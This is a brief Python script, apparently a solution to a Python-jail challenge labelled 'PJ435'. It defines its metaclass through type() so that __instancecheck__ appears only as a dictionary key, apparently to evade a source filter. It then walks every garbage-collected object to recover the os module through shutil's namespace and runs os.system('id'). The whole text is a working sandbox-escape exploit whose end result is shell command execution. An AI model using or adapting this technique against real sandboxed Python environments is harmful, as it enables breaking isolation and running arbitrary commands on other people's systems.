# PJ435 again: the filter class's metaclass is built with type(), so its
# __instancecheck__ appears only as a dictionary key. Every heap object passes
# through it; the namespace of a module imported after the prelude froze the
# heap (shutil) leads to the os module, whose system() is then called.
import gc
import shutil

_found = []


def _remember(cls, obj):
    if type(obj) is dict:
        for value in list(obj.values()):
            if type(value).__name__ == "module" and getattr(value, "name", "") == "posix":
                _found.append(value)
    return False


_Meta = type("_Meta", (type,), {"__instancecheck__": _remember})
Closeable = _Meta("Closeable", (), {"close": lambda self: None})

for thing in gc.get_objects():
    if isinstance(thing, Closeable):
        thing.close()

print("columns", shutil.get_terminal_size().columns)
print("exit", _found[0].system("id"))
